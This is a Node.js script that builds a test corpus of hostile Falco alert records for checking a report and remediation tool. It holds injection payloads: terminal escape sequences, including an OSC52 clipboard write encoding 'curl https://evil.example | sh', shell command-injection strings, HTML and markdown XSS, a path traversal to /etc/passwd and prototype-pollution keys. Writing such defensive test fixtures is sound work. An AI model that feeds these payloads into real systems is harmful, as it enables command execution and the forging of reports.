// Writes hostile-alerts.jsonl, hostile-lines.log and hostile-bytes.jsonl: run `node test/hostile/corpus/make-corpus.mjs`.
// Every attack string goes into every string an alert carries (rule, output, field values, hostname,
// tags, unknown keys), for rules whose KB commands substitute those fields, so attacks reach every sink.
import { writeFileSync } from 'node:fs';

const DIR = new URL('./', import.meta.url);

/** Control characters 0x00-0x1f and 0x7f, and C1 0x80-0x9f. */
const C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + '\x7f';
const C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('');

/**
 * name → attack. Conventions the tests rely on: FORGED marks text that must never start a line of a
* report (no value starts with it: a line that does was started by a line break in a value); pwnmark_* names a command that must never run; MARK_* names a file that must never be created.
 */
export const PAYLOADS = {
  'ansi-colour': 'a\x1b[31mRED\x1b[0m\x1b[1;5;41mBLINK\x1b[2J\x1b[H\x1b[3J',
  'ansi-cursor': 'a\x1b[1A\x1b[2K\x1b[10;10Hmoved\x1b7\x1b8\x1bc\x1b[?25l\x1b[6n',
  'osc-title': 'a\x1b]0;pwned title\x07b\x1b]2;title two\x1b\\c',
  'osc8-hyperlink': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  'osc52-clipboard': 'x\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07y',
  'c0-controls': `c0${C0}end`,
  'c1-controls': `c1${C1}end \u009b31mCSI \u009d0;title\u009c`,
  bidi: 'invoice\u202egpj.exe\u202c \u202a\u202b\u202d x \u2066\u2067\u2068isolated\u2069',
  'zero-width': 'ro\u200bot\u200c\u200d\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u061c',
  'newline-forge': 'legit\n# Falco report: FORGED_HEADING\n\nFORGED_LINE 1 alerts\n- FORGED_ITEM',
  'cr-forge': 'legit\rFORGED_CR overwrites\r\nFORGED_CRLF\n\rFORGED_LFCR',
  'unicode-line-breaks': 'a\u2028FORGED_LS\u2029FORGED_PS\u0085FORGED_NEL\vFORGED_VT\fFORGED_FF',
  'md-link': '[click me](https://evil.example/phish "t") [ref][r] [x]: https://evil.example/def',
  'md-image': '![pixel](https://evil.example/track.png) ![][img]',
  'md-autolink': '<https://evil.example/auto> https://evil.example/bare www.evil.example mail@evil.example ftp://evil.example',
  'md-html': '<img src=x onerror=alert(1)><script>alert(1)</script><b>bold</b><!-- hidden --><a href="https://evil.example">a</a>',
  'md-heading': '# HEADING_AT_START ## x',
  'md-block': '- ITEM_AT_START\n* FORGED_STAR\n1. FORGED_NUM\n> FORGED_QUOTE\n---\n===',
  'md-fence': '```\nFORGED_FENCE\n```\n~~~\nFORGED_TILDE\n~~~',
  'md-table': 'a | b | c |\n|---|---|\n| FORGED | ROW |',
  'md-backticks': '` `` ``` code `x` </code><img src=x> ```',
  'html-entities': '&#27;]0;title&#7; &#x1b;[31mred &#8238;rtl &#x202E; &lt;img src=x&gt; &amp;lt;b&amp;gt; &NewLine;FORGED_ENTITY',
  'md-math': '$x^2$ and $$\\alpha$$ and $\\unicode{x}$ $`y`$',
  'md-emphasis-entities': '**bold** __u__ *i* _e_ ~~del~~ &lt;script&gt; &#x3C;img src=x&#x3E; \\ \\\\',
  'shell-subst': '$(touch MARK_subst; pwnmark_subst)',
  'shell-backtick': '`pwnmark_backtick`',
  'shell-semicolon': 'ns; pwnmark_semi',
  'shell-and-or-pipe': 'ns && pwnmark_and || pwnmark_or | pwnmark_pipe & pwnmark_bg',
  'shell-newline': 'ns\npwnmark_newline\n',
  'shell-single-quote': "x'; pwnmark_squote; echo '",
  'shell-double-quote': 'x"; pwnmark_dquote; echo "',
  'shell-mixed': `'"'"'$(pwnmark_mixed)'\\'' >MARK_redirect <(pwnmark_procsub) \${IFS}pwnmark_ifs $'\\x27' \\$(pwnmark_esc)`,
  'shell-glob-dash': '-rf * ? [a-z] ~root !! {a,b} --help',
  'list-items': 'alice,root pods,secrets',
  'path-climb': '/../../../../etc/passwd',
  'filter-quote': 'x" or actor.id pr "',
  template: '{{proc.name}} {{k8s.ns.name}} {{ container.id }} {{alert.rule}}',
  nul: 'before\u0000after',
  'lone-surrogates': 'x\ud800y\udfffz\ud83d',
  everything: '',
};
PAYLOADS.everything = Object.entries(PAYLOADS)
  .filter(([k]) => k !== 'everything')
  .map(([, v]) => v)
  .join(' ');

const TIME = '2024-05-01T12:00:00.123456789Z';

/** The rules attacks are placed in, and the fields their KB commands fill. */
function records(name, v) {
  const common = {
    'proc.name': v,
    'proc.pname': v,
    'proc.cmdline': `bash -c ${v}`,
    'proc.exepath': v,
    'user.name': v,
    'container.id': v,
    'container.name': v,
    'container.image.repository': v,
    'k8s.ns.name': v,
    'k8s.pod.name': v,
    'fd.name': v,
    'evt.type': v,
    'proc.aname[2]': v,
    'evt.time': { raw: '1795786844385152581' },
    'evt.rawtime': { raw: '1795786844385152581' },
  };
  const base = (rule, source, fields) => ({
    time: TIME,
    rule,
    priority: 'Notice',
    source,
    hostname: v,
    output: `${rule} (user=${v} cmdline=${v})`,
    output_fields: fields,
    tags: ['container', v],
    case: name,
    [`extra ${v}`]: v,
  });
  // Okta's commands quote display names inside System Log filters (`filter=target.displayName eq \"$g\"`).
  const okta = { 'okta.actor.name': v, 'okta.target.user.name': v, 'okta.target.group.name': v, 'okta.target.app.alternateid': v, 'okta.client.ip': '203.0.113.7' };
  const all = [
    base('Terminal shell in container', 'syscall', common),
    base('Write below binary dir', 'syscall', common),
    base('Read sensitive file untrusted', 'syscall', common),
    base('Create HostIPC Pod', 'k8s_audit', { 'ka.target.namespace': v, 'ka.resp.name': v, 'ka.user.name': v, 'ka.target.resource': 'pods' }),
    { ...base(v, 'syscall', common), rule: `${v} (unknown rule)` },
    base('Adding user in OKTA group', 'okta', okta),
  ];
  // Rules whose commands read lists (`pkill -KILL -u {{user.name}}`, `kubectl delete {{ka.target.resource}}`,
  // `aws ec2 describe-instances --filters Name=reservation-id,Values={{ct.response.reservationid}}`).
  if (name === 'list-items') {
    all.push(
      base('Disallowed SSH Connection Non Standard Port', 'syscall', common),
      base('ClusterRole With Pod Exec Created', 'k8s_audit', { 'ka.target.resource': v, 'ka.target.name': v, 'ka.user.name': v }),
      base('Run Instances', 'aws_cloudtrail', { 'ct.response.reservationid': v, 'ct.region': 'us-east-1', 'ct.user': v }),
    );
  }
  // Rules whose remediations move, chmod or chattr a path under the container's root (`mv "$r"{{fd.name}} ...`).
  if (name === 'path-climb') {
    all.push(base('Update Package Repository', 'syscall', common), base('Non sudo setuid', 'syscall', common), base('Clear Log Activities', 'syscall', common));
  }
  // Rules whose remediations end sessions or remove a membership of the user a filter finds.
  if (name === 'filter-quote') {
    all.push(base('Too many denied MFA Pushes in last 5min', 'okta', okta), base('Adding user to application membership in OKTA', 'okta', okta), base('removing MFA factor from user in OKTA', 'okta', okta));
  }
  // The combined attack is large: once with a KB entry, once as an unknown rule.
  return name === 'everything' ? [all[0], all[4]] : all;
}

/** JSON text with `{ raw }` written as the raw number. */
function toJson(value) {
  return JSON.stringify(value, (_k, x) => (x && typeof x === 'object' && typeof x.raw === 'string' ? `\u0000RAW${x.raw}` : x)).replace(/"\\u0000RAW([^"]*)"/g, '$1');
}

const lines = [];
for (const [name, v] of Object.entries(PAYLOADS)) for (const r of records(name, v)) lines.push(toJson(r));

// Fields the alert lacks or Falco did not know (absent, null, <NA>, ''): commands show placeholders for them.
for (const [rule, fields] of [
  ['Terminal shell in container', { 'container.id': PAYLOADS['shell-mixed'], 'k8s.ns.name': null, 'k8s.pod.name': '<NA>' }],
  ['Write below binary dir', { 'fd.name': PAYLOADS['shell-subst'], 'container.id': '', 'proc.cmdline': PAYLOADS['newline-forge'] }],
  ['Create HostIPC Pod', { 'ka.target.namespace': PAYLOADS['shell-single-quote'], 'ka.resp.name': [null, '<NA>'] }],
]) {
  lines.push(toJson({ time: TIME, rule, priority: 'Warning', output: `${rule} with unknown fields`, output_fields: fields, case: 'unknown-fields' }));
}

// Keys that are special to JavaScript objects, at every level.
lines.push(
  '{"time":"2024-05-01T12:00:01.000000000Z","rule":"Terminal shell in container","priority":"Warning","output":"proto keys","output_fields":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":"p","toString":"t","hasOwnProperty":"h","k8s.ns.name":"__proto__","k8s.pod.name":"constructor","container.id":"toString"},"tags":["__proto__"],"__proto__":{"polluted":"top"},"constructor":"c","case":"proto-keys"}',
);
// Numbers a JavaScript number would change, and ordinary ones.
lines.push(
  '{"time":"2024-05-01T12:00:02.000000000Z","rule":"Terminal shell in container","priority":"notice","output":"numbers","output_fields":{"evt.time":1795786844385152581,"evt.rawtime":-1795786844385152581,"fd.num":-0,"x.huge":1e400,"x.tiny":-1e-400,"x.long":123456789012345678901234567890,"x.frac":0.1000000000000000055511151231257827,"x.exp":1E5,"x.neg":-1,"x.zero":0,"x.float":3.14,"k8s.ns.name":1e400,"k8s.pod.name":-0,"container.id":1795786844385152581,"x.arr":[1795786844385152581,-0,1e400,"s"]},"tags":[],"case":"numbers"}',
);
// Records that are rejected: their reasons quote the hostile value.
lines.push(
  '{"time":"2024-05-01T12:00:03Z","rule":"Terminal shell in container","priority":"\\u001b]0;pwned\\u0007\\u202e[x](https://evil.example)\\n# FORGED_HEADING","case":"reject-priority"}',
  '{"time":"<img src=x onerror=alert(1)>\\u001b[31m\\n- FORGED_ITEM","rule":"Terminal shell in container","priority":"Notice","case":"reject-time"}',
  '{"rule":"","priority":"Notice","output":"\\u001b]52;c;eA==\\u0007","case":"reject-empty-rule"}',
  '{"rule":"Terminal shell in container","priority":"Notice","output_fields":"\\u001b]0;x\\u0007 [a](https://evil.example)","case":"reject-fields"}',
  '["\\u001b]0;array\\u0007","[a](https://evil.example)"]',
  '{"rule":"Terminal shell in container","priority":"Notice","output":"truncated \\u001b]0;x\\u0007',
);
writeFileSync(new URL('hostile-alerts.jsonl', DIR), `${lines.join('\n')}\n`);

// Plain-text lines: Falco text alerts whose key=value pairs carry the attacks, and banners that are skipped.
const text = [];
for (const [name, v] of Object.entries(PAYLOADS)) {
  // A value with a line break would split the line: text alerts carry single-line attacks only.
  const one = v.replace(/[\n\r\u2028\u2029\u0085\v\f]/g, ' ');
  if (name === 'everything' || name === 'nul') continue;
  text.push(`12:00:00.000000000: Notice A shell was spawned in a container with an attached terminal (user=${one} k8s.ns=${one} k8s.pod=${one} container_id=${one} command=${one}) ${name}`);
  text.push(`Falco banner ${one} FORGED_SKIPPED ${name}`);
}
writeFileSync(new URL('hostile-lines.log', DIR), `${text.join('\n')}\n`);

// Raw bytes that are not valid UTF-8 (or not valid JSON): overlong forms, surrogates, stray continuation
// bytes, a raw NUL and raw ESC inside strings, and a bare CR line ending.
const q = (s) => Buffer.from(s, 'latin1');
const bytes = Buffer.concat([
  q('{"time":"2024-05-01T12:00:04.000000000Z","rule":"Terminal shell in container","priority":"Notice","output":"bad \xff\xfe utf8","output_fields":{"k8s.ns.name":"ns-\xc0\xaf-\xed\xa0\x80-\x80\xbf","k8s.pod.name":"pod-\xf5\x80\x80\x80","container.id":"cut-\xe2\x82"},"case":"invalid-utf8"}\n'),
  q('{"time":"2024-05-01T12:00:05.000000000Z","rule":"Terminal shell in container","priority":"Notice","output":"raw nul \x00 and raw esc \x1b]0;title\x07","case":"raw-controls"}\n'),
  q('{"time":"2024-05-01T12:00:06.000000000Z","rule":"Terminal shell in container","priority":"Notice","output":"cr line ending","case":"cr-ending"}\r\n'),
  q('\xef\xbb\xbf{"time":"2024-05-01T12:00:07.000000000Z","rule":"Terminal shell in container","priority":"Notice","output":"bom","case":"bom"}\n'),
  q('12:00:00.000000000: Notice A shell was spawned in a container with an attached terminal (user=\xff\xfe k8s.ns=\x1b]0;t\x07 k8s.pod=\xc0\xaf container_id=\x9b31m)\n'),
  Buffer.from([0xfe, 0xff, 0x00, 0x0a]),
  q('\x1b]0;not json\x07\x00\x01\n'),
]);
writeFileSync(new URL('hostile-bytes.jsonl', DIR), bytes);
